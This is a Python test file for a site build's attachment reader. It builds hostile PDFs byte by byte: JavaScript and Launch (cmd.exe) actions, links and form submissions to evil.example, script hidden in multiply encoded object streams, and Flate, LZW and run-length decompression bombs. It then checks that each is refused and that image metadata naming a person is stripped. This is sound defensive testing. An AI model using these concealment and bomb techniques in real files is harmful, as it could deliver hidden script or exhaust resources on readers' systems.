"""Hostile attachments: a PDF that would act, hide script or bomb is refused; metadata never leaves.

Every file is assembled here byte by byte, as an attacker would write it, and
read by `read_attachment` as a build reads it: each refusal names the file and
says why in words a hub lead can act on, and each image that passes is
published without the text its metadata held.
"""

from __future__ import annotations

import base64
import struct
import time
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pdf_files import PAGE_TEXT, document, stream

from area_knowledge.contract.model import Attachment
from area_knowledge.reading.attachment_filters import Budget, decode_chain
from area_knowledge.reading.attachment_pdf import Refused, pdf_text
from area_knowledge.reading.attachments import attachment_text, read_attachment
from area_knowledge.reading.inventory import ContentFile

NAME = "Priya Ramaswamy-Holt"
EMAIL = "p.ramaswamy-holt@millbridgeprimary.castlebrook.sch.uk"
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


# Files as an attacker writes them.


def object_stream(objects: dict[int, bytes]) -> tuple[int, bytes]:
    """The /First and the data of an object stream holding `objects`."""
    bodies, offsets, at = b"", [], 0
    for number, body in objects.items():
        offsets.append(b"%d %d" % (number, at))
        bodies += body + b"\n"
        at = len(bodies)
    header = b" ".join(offsets) + b" "
    return len(header), header + bodies


def script_in_object_stream(filters: bytes, encode, parameters: bytes = b"") -> bytes:
    """A PDF whose only script is an action inside an object stream, encoded by `filters`."""
    first, data = object_stream(
        {7: b"<< /Names << /JavaScript << /Names [(run) 8 0 R] >> >> >>", 8: JS_ACTION}
    )
    entries = b"/Type /ObjStm /N 2 /First %d /Filter %s " % (first, filters) + parameters
    return document(extra=(stream(entries, encode(data)),))


def hex_encoded(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def a85_encoded(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def run_length_encoded(data: bytes) -> bytes:
    runs = b"".join(
        bytes([len(data[i : i + 128]) - 1]) + data[i : i + 128] for i in range(0, len(data), 128)
    )
    return runs + b"\x80"


def lzw_encoded(data: bytes) -> bytes:
    """LZW as PDF writes it (early change 1), for data short enough to stay at 9 bits."""
    table = {bytes([i]): i for i in range(256)}
    codes, word, following = [256], b"", 258
    for byte in data:
        longer = word + bytes([byte])
        if longer in table:
            word = longer
            continue
        codes.append(table[word])
        table[longer] = following
        following += 1
        word = bytes([byte])
    codes += [table[word], 257]
    assert following < 511
    bits = "".join(format(code, "09b") for code in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def png_predicted(data: bytes, columns: int) -> bytes:
    """`data` in rows of `columns` bytes, each row with a PNG predictor of its own (0 to 4)."""
    rows = [data[i : i + columns].ljust(columns, b" ") for i in range(0, len(data), columns)]
    out, above = b"", bytes(columns)
    for index, row in enumerate(rows):
        kind = index % 5
        encoded = bytearray()
        for at, value in enumerate(row):
            left = row[at - 1] if at else 0
            corner = above[at - 1] if at else 0
            guess = [0, left, above[at], (left + above[at]) // 2, _paeth(left, above[at], corner)]
            encoded.append((value - guess[kind]) & 0xFF)
        out += bytes([kind]) + bytes(encoded)
        above = row
    return out


def _paeth(left: int, above: int, corner: int) -> int:
    estimate = left + above - corner
    distances = [abs(estimate - v) for v in (left, above, corner)]
    return (left, above, corner)[distances.index(min(distances))]


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


PNG_PIXELS = [
    png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)),
    png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")),
    png_chunk(b"IEND", b""),
]
PNG = b"\x89PNG\r\n\x1a\n" + b"".join(PNG_PIXELS)


def png_with(*chunks: bytes, after: bytes = b"") -> bytes:
    """The 1x1 PNG with `chunks` between its header and its pixels, `after` past its end."""
    ihdr, idat, iend = PNG_PIXELS
    return b"\x89PNG\r\n\x1a\n" + ihdr + b"".join(chunks) + idat + iend + after


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


SCAN_DATA = b"\x12\x34\xff\x00\x56\xff\xd0\x78\x9a"
JPEG_PICTURE = (
    jpeg_segment(0xDB, b"\x00" + bytes(range(64)))
    + jpeg_segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")
    + jpeg_segment(0xC4, b"\x00" + bytes(16) + b"")
    + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    + SCAN_DATA
)
JPEG = b"\xff\xd8" + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
JPEG += JPEG_PICTURE + b"\xff\xd9"


def tiff(*entries: tuple[int, int, bytes]) -> bytes:
    """A little-endian TIFF structure (as EXIF is) of IFD0 `entries`: (tag, type, value)."""
    count = len(entries)
    data_at = 8 + 2 + 12 * count + 4
    directory, data = struct.pack("<H", count), b""
    for tag, kind, value in entries:
        size = {1: 1, 2: 1, 3: 2, 7: 1}[kind]
        number = len(value) // size
        if len(value) <= 4:
            directory += struct.pack("<HHI", tag, kind, number) + value.ljust(4, b"\x00")
        else:
            directory += struct.pack("<HHII", tag, kind, number, data_at + len(data))
            data += value
    return b"II*\x00" + struct.pack("<I", 8) + directory + b"\x00\x00\x00\x00" + data


def exif_naming(orientation: int | None = None) -> bytes:
    """EXIF that names the photographer three ways, and may say which way up the photo is."""
    entries = [
        (0x013B, 2, NAME.encode() + b"\x00"),  # Artist
        (0x9C9D, 1, NAME.encode("utf-16-le") + b"\x00\x00"),  # XPAuthor
        (0x010E, 2, EMAIL.encode() + b"\x00"),  # ImageDescription
    ]
    if orientation is not None:
        entries.insert(1, (0x0112, 3, struct.pack("<H", orientation)))
    return tiff(*entries)


XMP = (
    b'<?xpacket begin="\xef\xbb\xbf"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>'
    b"<dc:creator>&#80;riya Ramaswamy-Holt</dc:creator></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


def gif(*blocks: bytes) -> bytes:
    screen = b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    picture = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00" + b"\x02\x02\x44\x01\x00"
    return screen + b"".join(blocks) + picture + b"\x3b"


def gif_extension(label: int, *sub_blocks: bytes) -> bytes:
    return bytes([0x21, label]) + b"".join(bytes([len(b)]) + b for b in sub_blocks) + b"\x00"


def webp_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\x00" * (len(body) % 2)


def webp(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


VP8 = webp_chunk(b"VP8 ", b"\x30\x01\x00\x9d\x01\x2a\x01\x00\x01\x00\x02\x00\x34\x25")


# Reading them as a build does.


def read(tmp_path: Path, name: str, data: bytes) -> tuple[Attachment | None, list[str]]:
    path = tmp_path / name
    path.write_bytes(data)
    problems: list = []
    file = ContentFile(str(path), f"content/attachments/{name}", name)
    return read_attachment(file, problems), [str(p) for p in problems]


def refusal(tmp_path: Path, name: str, data: bytes) -> str:
    """The one message a refused file gets, which must begin with the file's name."""
    attachment, messages = read(tmp_path, name, data)
    assert attachment is None, f"{name} was accepted"
    [message] = messages
    assert message.startswith(f"content/attachments/{name}:1: ")
    return message


def published(tmp_path: Path, name: str, data: bytes) -> bytes:
    attachment, messages = read(tmp_path, name, data)
    assert messages == []
    assert attachment is not None
    return attachment.data


# PDFs that would act or reach another host (att3).

ACTIVE_PDFS = {
    "uri-link": document(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://evil.example/) >> >>]"
    ),
    "gotor": document(catalog=b"/OpenAction << /S /GoToR /F (https://evil.example/a.pdf) >>"),
    "submit-form": document(
        catalog=b"/AcroForm << /Fields [<< /T (x) /FT /Btn /A << /S /SubmitForm "
        b"/F << /FS /URL /F (https://evil.example/) >> >> >>] >>"
    ),
    "import-data": document(page=b"/AA << /O << /S /ImportData /F (https://evil.example/d) >> >>"),
    "gotoe": document(catalog=b"/OpenAction << /S /GoToE /F (https://evil.example/e.pdf) >>"),
    "launch": document(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "javascript-names": document(
        catalog=b"/Names << /JavaScript << /Names [(a) " + JS_ACTION + b"] >> >>"
    ),
    "js-stream": document(
        catalog=b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
        extra=(stream(b"/Filter /FlateDecode", zlib.compress(b"app.alert(1)")),),
    ),
    "richmedia": document(page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent 6 0 R >>]"),
    "embedded-file": document(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
        b"/EF << /F 6 0 R >> >>] >> >>",
        extra=(stream(b"/Type /EmbeddedFile", b"MZ"),),
    ),
    "packed-without-type": document(
        page=b"/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 6 0 R >> >> >>]",
        extra=(stream(b"", b"MZ"),),
    ),
    "additional-actions": document(page=b"/AA << /O << /S /Named /N /Print >> >>"),
    "open-action-reference": document(catalog=b"/OpenAction 6 0 R", extra=(JS_ACTION,)),
    "xfa": document(
        catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=(stream(b"", b"<x/>"),)
    ),
    "hex-escaped-name": document(catalog=b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
    "escaped-every-letter": document(
        page=b"/#41#41 << /O << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >> >>"
    ),
    "name-after-comment": document(catalog=b"/Names << /JavaScript %c\n<< /Names [] >> >>"),
    "sound": document(page=b"/Annots [<< /Subtype /Sound /Sound 6 0 R >>]", extra=(b"null",)),
}


@pytest.mark.parametrize("case", ACTIVE_PDFS)
def test_pdf_that_would_act_or_reach_another_host_is_refused(tmp_path: Path, case: str) -> None:
    message = refusal(tmp_path, f"{case}.pdf", ACTIVE_PDFS[case])
    assert "is a PDF that " in message and "print it" in message


def test_pdf_that_only_links_out_says_no_request_may_leave_and_how_to_flatten(
    tmp_path: Path,
) -> None:
    message = refusal(tmp_path, "links.pdf", ACTIVE_PDFS["uri-link"])
    assert "links to other websites or files, and no request may leave the site" in message
    assert "export it again without links, or flatten it" in message


def test_pdf_refusal_says_what_the_file_would_do(tmp_path: Path) -> None:
    message = refusal(tmp_path, "launch.pdf", ACTIVE_PDFS["launch"])
    assert "starts programs" in message and "runs actions when it is opened" in message


def test_open_action_that_only_opens_a_page_is_accepted(tmp_path: Path) -> None:
    published(tmp_path, "opens.pdf", document(catalog=b"/OpenAction [3 0 R /XYZ null null 0]"))


def test_page_text_that_mentions_javascript_is_not_an_action(tmp_path: Path) -> None:
    content = b"BT /F1 12 Tf 72 720 Td (Use /JavaScript and /URI with care) Tj ET"
    published(tmp_path, "lesson.pdf", document(content))


def test_object_hidden_inside_stream_data_is_found(tmp_path: Path) -> None:
    hidden = b"\n9 0 obj << /Type /Action /S /Launch /F (cmd.exe) >> endobj\n"
    plain = document(extra=(stream(b"", b"q Q" + hidden),))
    flate = document(extra=(stream(b"/Filter /FlateDecode", zlib.compress(b"q Q") + hidden),))
    assert "starts programs" in refusal(tmp_path, "plain.pdf", plain)
    assert "starts programs" in refusal(tmp_path, "flate.pdf", flate)


# Script hidden inside encoded object streams (att5).

ENCODINGS = {
    "ascii-hex": (b"/ASCIIHexDecode", hex_encoded, b""),
    "ascii-hex-abbreviated": (b"/AHx", hex_encoded, b""),
    "ascii85": (b"/ASCII85Decode", a85_encoded, b""),
    "ascii85-flate": (
        b"[/ASCII85Decode /FlateDecode]",
        lambda d: a85_encoded(zlib.compress(d)),
        b"",
    ),
    "flate-abbreviated": (b"/Fl", zlib.compress, b""),
    "run-length": (b"/RunLengthDecode", run_length_encoded, b""),
    "lzw": (b"/LZWDecode", lzw_encoded, b""),
    "hex-lzw": (b"[/AHx /LZW]", lambda d: hex_encoded(lzw_encoded(d)), b""),
    "flate-png-predictor": (
        b"/FlateDecode",
        lambda d: zlib.compress(png_predicted(d, 7)),
        b"/DecodeParms << /Predictor 12 /Columns 7 >>",
    ),
    "three-deep": (
        b"[/AHx /A85 /Fl]",
        lambda d: hex_encoded(a85_encoded(zlib.compress(d))),
        b"",
    ),
    "identity-crypt": (
        b"[/Crypt /Fl]",
        zlib.compress,
        b"/DecodeParms [<< /Name /Identity >> null]",
    ),
}


@pytest.mark.parametrize("case", ENCODINGS)
def test_script_in_an_encoded_object_stream_is_found(tmp_path: Path, case: str) -> None:
    message = refusal(tmp_path, f"{case}.pdf", script_in_object_stream(*ENCODINGS[case]))
    assert "runs script" in message


def test_lzw_decodes_the_example_of_the_pdf_specification() -> None:
    encoded = bytes.fromhex("800B6050220C0C8501")
    assert decode_chain(encoded, ["LZWDecode"], [], Budget(100)) == b"-----A---B"


UNREADABLE = {
    "unknown-filter": (b"/Filter /BrotliDecode", b"x", "the unknown encoding /BrotliDecode"),
    "picture-filter-on-text": (b"/Filter /DCTDecode", b"x", "picture encoding (/DCTDecode)"),
    "bad-hex": (b"/Filter /AHx", b"4a5zz>", "not hexadecimal"),
    "bad-flate": (b"/Filter /FlateDecode", b"not zlib at all", "does not unpack"),
    "bad-ascii85": (b"/Filter /A85", b"{{{~>", "not ASCII85"),
    "long-chain": (b"/Filter [/Fl /Fl /Fl /Fl /Fl]", b"x", "encoded 5 times over"),
    "unknown-predictor": (
        b"/Filter /Fl /DecodeParms << /Predictor 7 >>",
        zlib.compress(b"x"),
        "unknown /Predictor 7",
    ),
    "filter-by-reference": (b"/Filter 9 0 R", b"x", "names its encoding in a way"),
    "real-crypt": (b"/Filter /Crypt /DecodeParms << /Name /StdCF >>", b"x", "is encrypted"),
}


@pytest.mark.parametrize("case", UNREADABLE)
def test_stream_that_cannot_be_decoded_refuses_the_pdf(tmp_path: Path, case: str) -> None:
    entries, data, why = UNREADABLE[case]
    message = refusal(tmp_path, f"{case}.pdf", document(extra=(stream(entries, data),)))
    assert "the site cannot check: its object 6 " in message and why in message


def test_picture_in_a_picture_encoding_is_not_decoded(tmp_path: Path) -> None:
    picture = stream(
        b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /DCTDecode",
        b"\xff\xd8 not really a jpeg",
    )
    published(tmp_path, "photo.pdf", document(extra=(picture,)))


def test_object_stream_marked_as_picture_is_still_read(tmp_path: Path) -> None:
    first, data = object_stream({7: JS_ACTION})
    disguised = stream(
        b"/Subtype /Image /Width 1 /Height 1 /N 1 /First %d /Filter /AHx" % first,
        hex_encoded(data),
    )
    assert "runs script" in refusal(tmp_path, "disguised.pdf", document(extra=(disguised,)))


def test_encrypted_pdf_is_refused(tmp_path: Path) -> None:
    encrypted = document(extra=(b"<< /Filter /Standard /V 2 /R 3 >>",), trailer=b"/Encrypt 6 0 R")
    message = refusal(tmp_path, "locked.pdf", encrypted)
    assert "protected by a password or encryption" in message


def test_stream_that_no_object_owns_is_refused(tmp_path: Path) -> None:
    orphan = document() + b"<< /Filter /AHx >>\nstream\n" + hex_encoded(JS_ACTION) + b"\nendstream"
    assert "laid out in a way the site cannot read" in refusal(tmp_path, "orphan.pdf", orphan)


def test_stream_dictionary_that_gives_a_key_twice_is_refused(tmp_path: Path) -> None:
    twice = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /Fl /Filter /AHx", hex_encoded(b"x"))
    message = refusal(tmp_path, "twice.pdf", document(extra=(twice,)))
    assert "a dictionary that gives a key twice" in message


def test_stream_whose_data_is_another_file_is_refused(tmp_path: Path) -> None:
    fetched = stream(b"/F << /FS /URL /F (https://evil.example/data) >> /FFilter /Fl", b"")
    message = refusal(tmp_path, "fetched.pdf", document(extra=(fetched,)))
    assert "links to other websites or files (its object 6)" in message


def test_picture_in_an_unknown_encoding_is_refused(tmp_path: Path) -> None:
    picture = stream(b"/Subtype /Image /Width 1 /Height 1 /Filter /Secret", b"x")
    message = refusal(tmp_path, "secret.pdf", document(extra=(picture,)))
    assert "its object 6 uses the unknown encoding /Secret" in message


def test_open_action_that_goes_to_a_page_from_an_object_stream_is_accepted(
    tmp_path: Path,
) -> None:
    first, data = object_stream({7: b"<< /S /GoTo /D [3 0 R /Fit] >>"})
    packed = stream(b"/Type /ObjStm /N 1 /First %d /Filter /Fl" % first, zlib.compress(data))
    published(tmp_path, "hyperref.pdf", document(catalog=b"/OpenAction 7 0 R", extra=(packed,)))


def test_open_action_that_goes_to_a_page_and_then_acts_is_refused(tmp_path: Path) -> None:
    chained = document(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
        extra=(b"<< /S /Named /N /Print >>",),
    )
    assert "runs actions when it is opened" in refusal(tmp_path, "chained.pdf", chained)


# Bounds: bombs and files built to be slow (class 4).


def flate_bomb(megabytes: int) -> bytes:
    """A Flate stream that inflates to `megabytes` of zeros, about a thousand times smaller:
    after a full flush each megabyte compresses to the same bytes, so they are repeated."""
    compressor = zlib.compressobj(9)
    zeros = bytes(1_000_000)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    return first + again * (megabytes - 1)


def test_decompression_bomb_is_refused_quickly(tmp_path: Path) -> None:
    five_gigabytes = flate_bomb(4_900)
    bomb = document(extra=(stream(b"/Filter /FlateDecode", five_gigabytes),))
    assert 4_000_000 < len(bomb) < 5_000_000
    started = time.monotonic()
    message = refusal(tmp_path, "bomb.pdf", bomb)
    assert time.monotonic() - started < 2
    assert "unpacks to more than 20 MB" in message


def test_bomb_inside_a_chain_is_refused(tmp_path: Path) -> None:
    inner = flate_bomb(1_000)
    bomb = document(extra=(stream(b"/Filter [/Fl /Fl]", zlib.compress(inner)),))
    assert "unpacks to more than 20 MB" in refusal(tmp_path, "nested.pdf", bomb)


def test_many_streams_together_are_bounded(tmp_path: Path) -> None:
    each = zlib.compress(bytes(2_000_000))
    many = document(extra=tuple(stream(b"/Filter /Fl", each) for _ in range(12)))
    assert "unpacks to more than 20 MB" in refusal(tmp_path, "many.pdf", many)


def test_lzw_and_run_length_bombs_are_refused(tmp_path: Path) -> None:
    run_length = (b"\x81\x00" * 1_000_000) + b"\x80"
    bomb = document(extra=(stream(b"/Filter /RL", run_length),))
    assert "unpacks to more than 20 MB" in refusal(tmp_path, "runs.pdf", bomb)


@pytest.mark.parametrize(
    "junk",
    [
        b">>" + b"%" * 200_000 + b"x",
        b"(" * 200_000,
        b"1 0 obj " * 200_000,
        b"[" * 200_000,
        b"1 0 obj <<" + b"<<" * 10_000 + b">>" * 10_001 + b"\nstream\nx\nendstream",
        b"1 0 obj <<>>stream\n" + b"1 0 obj " * 300_000,
        b"".join(b"%d 0 obj << /L 1 >>stream\nx\nendstream endobj\n" % n for n in range(20_000)),
    ],
    ids=["comments", "parentheses", "headers", "brackets", "nesting", "unended", "streams"],
)
def test_file_built_to_be_slow_is_read_quickly(tmp_path: Path, junk: bytes) -> None:
    started = time.monotonic()
    read(tmp_path, "slow.pdf", document() + junk)
    assert time.monotonic() - started < 5


# Names inside attachments (att2).


def test_name_in_compressed_page_text_is_in_the_text(tmp_path: Path) -> None:
    content = zlib.compress(b"BT /F1 18 Tf 50 700 Td (Contact " + NAME.encode() + b") Tj ET")
    data = published(tmp_path, "p.pdf", document(content, content_entries=b"/Filter /FlateDecode"))
    assert NAME in pdf_text(data)


def test_name_split_across_a_shown_array_is_in_the_text() -> None:
    content = b"BT /F1 18 Tf [(Pri) 12 (ya) -250 (Ramaswa) 8 (my-Holt)] TJ ET"
    assert NAME in pdf_text(document(content))


def test_utf16_author_in_the_info_dictionary_is_in_the_text() -> None:
    author = b"<FEFF" + NAME.encode("utf-16-be").hex().upper().encode() + b">"
    literal = b"(\xfe\xff" + NAME.encode("utf-16-be").replace(b"(", b"\\(") + b")"
    data = document(extra=(b"<< /Author " + author + b" /Subject " + literal + b" >>",))
    text = pdf_text(data + b"")
    assert text.count(NAME) >= 2


def test_utf16_without_its_mark_is_in_the_text() -> None:
    data = document(extra=(b"<< /Author (" + NAME.encode("utf-16-be") + b") >>",))
    assert NAME in pdf_text(data)


def test_name_in_compressed_xmp_metadata_is_in_the_text() -> None:
    xmp = stream(b"/Type /Metadata /Subtype /XML /Filter /FlateDecode", zlib.compress(XMP))
    assert NAME in pdf_text(document(catalog=b"/Metadata 6 0 R", extra=(xmp,)))


def test_info_dictionary_inside_an_object_stream_is_in_the_text() -> None:
    first, data = object_stream(
        {7: b"<< /Author (" + NAME.encode() + b") /Title (" + EMAIL.encode() + b") >>"}
    )
    packed = stream(b"/Type /ObjStm /N 1 /First %d /Filter /A85" % first, a85_encoded(data))
    text = pdf_text(document(extra=(packed,), trailer=b"/Info 7 0 R"))
    assert NAME in text and EMAIL in text


def test_name_written_as_an_escaped_pdf_name_is_in_the_text() -> None:
    data = document(extra=(b"<< /Keywords /Priya#20Ramaswamy-Holt >>",))
    assert NAME in pdf_text(data)


def test_name_in_a_font_that_numbers_its_glyphs_is_in_the_text() -> None:
    glyphs = {character: 3 + index for index, character in enumerate(sorted(set(NAME)))}
    shown = b"".join(b"%04X" % glyphs[c] for c in NAME)
    mapping = b"\n".join(b"<%04X> <%04X>" % (g, ord(c)) for c, g in glyphs.items())
    to_unicode = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        b"%d beginbfchar\n" % len(glyphs) + mapping + b"\nendbfchar\n"
        b"1 beginbfrange <0001> <0002> <0041> endbfrange\nendcmap end end"
    )
    content = b"BT /F1 12 Tf 72 720 Td <" + shown + b"> Tj ET"
    data = document(
        zlib.compress(content),
        content_entries=b"/Filter /FlateDecode",
        extra=(stream(b"/Filter /FlateDecode", zlib.compress(to_unicode)),),
    )
    assert NAME.encode() not in zlib.decompress(zlib.compress(content))
    assert NAME in pdf_text(data)


@pytest.mark.parametrize("escaped", [False, True], ids=["plain", "escaped key and names"])
def test_name_in_a_font_whose_encoding_renames_its_glyphs_is_in_the_text(escaped: bool) -> None:
    # Codes 1, 2, 3... drawn as the glyphs named P, r, i...: the bytes shown hold no name.
    glyphs = {character: 1 + index for index, character in enumerate(sorted(set(NAME)))}
    names = {" ": b"space", "-": b"hyphen"}
    listed = b" ".join(
        b"%d /" % code + names.get(c, c.encode()) for c, code in sorted(glyphs.items())
    )
    key = b"Differences"
    if escaped:
        key, listed = b"Differ#65nces", listed.replace(b"/P", b"/#50").replace(b"/a", b"/a.sc")
    shown = bytes(glyphs[c] for c in NAME).hex().encode()
    data = document(
        b"BT /F1 12 Tf 72 720 Td <" + shown + b"> Tj ET",
        extra=(b"<< /Type /Encoding /" + key + b" [" + listed + b"] >>",),
    )

    assert NAME in pdf_text(data)


def test_name_drawn_last_letter_first_is_in_the_text() -> None:
    # Each letter shown on its own, last first, each moved back to its place on the line.
    moves = [
        b"%d 0 Td (%s) Tj" % (-7 if at else 200, c.encode()) for at, c in enumerate(NAME[::-1])
    ]
    data = document(b"BT /F1 12 Tf " + b" ".join(moves) + b" ET")

    assert NAME in pdf_text(data)


@pytest.mark.parametrize("placing", ["Tm", "Td"])
def test_name_drawn_in_pieces_out_of_order_is_in_the_text(placing: str) -> None:
    # "swamy-" and "Holt" drawn first, at the right; "Priya " and "Rama" then, at the left.
    pieces = [(3, "swamy-Holt"), (0, "Priya "), (2, "Rama")]
    if placing == "Tm":
        shows = [b"1 0 0 1 %d 700 Tm (%s) Tj" % (72 + 8 * at, p.encode()) for at, p in pieces]
    else:
        shows = [b"BT %d 700 Td (%s) Tj ET" % (72 + 8 * at, p.encode()) for at, p in pieces]
    data = document(b"BT /F1 12 Tf " + b" ".join(shows) + b" ET")

    assert NAME in pdf_text(data)


def test_pdf_with_more_ways_of_coding_letters_than_are_read_is_refused() -> None:
    encodings = tuple(b"<< /Type /Encoding /Differences [65 /A] >>" for _ in range(65))

    with pytest.raises(Refused, match="more than 64 ways of coding letters"):
        pdf_text(document(extra=encodings))


def test_attachment_text_of_a_published_pdf_names_who_it_names(tmp_path: Path) -> None:
    data = document(b"BT (" + NAME.encode() + b") Tj ET", content_entries=b"")
    attachment, _ = read(tmp_path, "named.pdf", data)
    assert attachment is not None and NAME in attachment_text(attachment)


PNG_METADATA = {
    "tEXt": png_chunk(b"tEXt", b"Author\x00" + NAME.encode()),
    "zTXt": png_chunk(b"zTXt", b"Author\x00\x00" + zlib.compress(f"{NAME} {EMAIL}".encode())),
    "iTXt": png_chunk(b"iTXt", b"Author\x00\x01\x00en\x00\x00" + zlib.compress(NAME.encode())),
    "eXIf": png_chunk(b"eXIf", exif_naming()),
    "tIME-iCCP": png_chunk(b"tIME", b"\x07\xea\x01\x01\x00\x00\x00")
    + png_chunk(b"iCCP", b"Priya's profile\x00\x00" + zlib.compress(NAME.encode())),
    "unknown": png_chunk(b"prVt", NAME.encode()),
}


@pytest.mark.parametrize("case", PNG_METADATA)
def test_png_is_published_without_its_metadata(tmp_path: Path, case: str) -> None:
    data = published(tmp_path, "chart.png", png_with(PNG_METADATA[case]))
    assert data == PNG


def test_png_loses_what_follows_its_end(tmp_path: Path) -> None:
    data = published(tmp_path, "chart.png", png_with(after=zlib.compress(NAME.encode())))
    assert data == PNG


def test_png_keeps_its_orientation_alone(tmp_path: Path) -> None:
    data = published(tmp_path, "turned.png", png_with(png_chunk(b"eXIf", exif_naming(6))))
    assert b"eXIf" in data and NAME.encode() not in data
    assert NAME.encode("utf-16-le") not in data and EMAIL.encode() not in data
    exif = data[data.index(b"eXIf") + 4 :]
    assert struct.unpack(">HHIH", exif[10:20]) == (0x0112, 3, 1, 6)


def test_png_without_metadata_is_published_unchanged(tmp_path: Path) -> None:
    assert published(tmp_path, "chart.png", PNG) == PNG


JPEG_METADATA = {
    "exif": jpeg_segment(0xE1, b"Exif\x00\x00" + exif_naming()),
    "xmp": jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP),
    "icc": jpeg_segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + NAME.encode()),
    "photoshop": jpeg_segment(0xED, b"Photoshop 3.0\x00" + NAME.encode()),
    "comment": jpeg_segment(0xFE, EMAIL.encode()),
    "jfif-thumbnail": jpeg_segment(
        0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x01\x01" + NAME.encode()[:3]
    ),
}


@pytest.mark.parametrize("case", JPEG_METADATA)
def test_jpeg_is_published_without_its_metadata(tmp_path: Path, case: str) -> None:
    photo = b"\xff\xd8" + JPEG_METADATA[case] + JPEG_PICTURE + b"\xff\xd9"
    data = published(tmp_path, "photo.jpg", photo)
    assert data.startswith(b"\xff\xd8\xff") and data.endswith(b"\xff\xd9")
    for text in (NAME.encode(), NAME.encode("utf-16-le"), EMAIL.encode(), b"Priya", b"Pri"):
        assert text not in data
    assert data.endswith(JPEG_PICTURE + b"\xff\xd9")


def test_jpeg_with_exif_is_published_stripped_of_it(tmp_path: Path) -> None:
    photo = b"\xff\xd8" + JPEG_METADATA["exif"] + JPEG_PICTURE + b"\xff\xd9"
    data = published(tmp_path, "photo.jpg", photo)
    assert b"Exif" not in data and b"\xff\xe1" not in data
    assert data == b"\xff\xd8" + JPEG_PICTURE + b"\xff\xd9"


def test_jpeg_keeps_its_orientation_alone(tmp_path: Path) -> None:
    photo = b"\xff\xd8" + jpeg_segment(0xE1, b"Exif\x00\x00" + exif_naming(8)) + JPEG_PICTURE
    data = published(tmp_path, "turned.jpg", photo + b"\xff\xd9")
    assert NAME.encode() not in data and NAME.encode("utf-16-le") not in data
    exif = data[data.index(b"Exif\x00\x00") + 6 :]
    assert exif[:4] == b"MM\x00*" and struct.unpack(">HHIH", exif[10:20]) == (0x0112, 3, 1, 8)


def test_jpeg_loses_what_follows_its_end(tmp_path: Path) -> None:
    motion_photo = JPEG + b"\x00\x00\x00\x18ftypmp42" + NAME.encode()
    assert published(tmp_path, "photo.jpg", motion_photo) == JPEG


def test_jpeg_without_metadata_is_published_unchanged(tmp_path: Path) -> None:
    assert published(tmp_path, "photo.jpeg", JPEG) == JPEG


def test_jpeg_with_only_metadata_keeps_its_magic_and_end(tmp_path: Path) -> None:
    only_exif = b"\xff\xd8" + JPEG_METADATA["exif"] + b"\xff\xd9"
    assert published(tmp_path, "empty.jpg", only_exif) == b"\xff\xd8\xff\xd9"


def test_gif_loses_comments_text_and_application_data(tmp_path: Path) -> None:
    loop = gif_extension(0xFF, b"NETSCAPE2.0", b"\x01\x00\x00")
    hostile = gif(
        gif_extension(0xFE, NAME.encode()),
        gif_extension(0xFF, b"XMP DataXMP", XMP[:200]),
        gif_extension(0x01, bytes(12), EMAIL.encode()),
        loop,
    )
    data = published(tmp_path, "moving.gif", hostile)
    assert data == gif(loop)
    assert NAME.encode() not in data and b"Priya" not in data


def test_webp_loses_exif_xmp_and_its_flags(tmp_path: Path) -> None:
    flags = webp_chunk(b"VP8X", bytes([0x2C]) + bytes(9))
    hostile = webp(
        flags,
        webp_chunk(b"ICCP", NAME.encode()),
        VP8,
        webp_chunk(b"EXIF", exif_naming()),
        webp_chunk(b"XMP ", XMP),
    )
    data = published(tmp_path, "photo.webp", hostile)
    assert data == webp(webp_chunk(b"VP8X", bytes(10)), VP8)


def test_webp_keeps_its_orientation_alone(tmp_path: Path) -> None:
    flags = webp_chunk(b"VP8X", bytes([0x08]) + bytes(9))
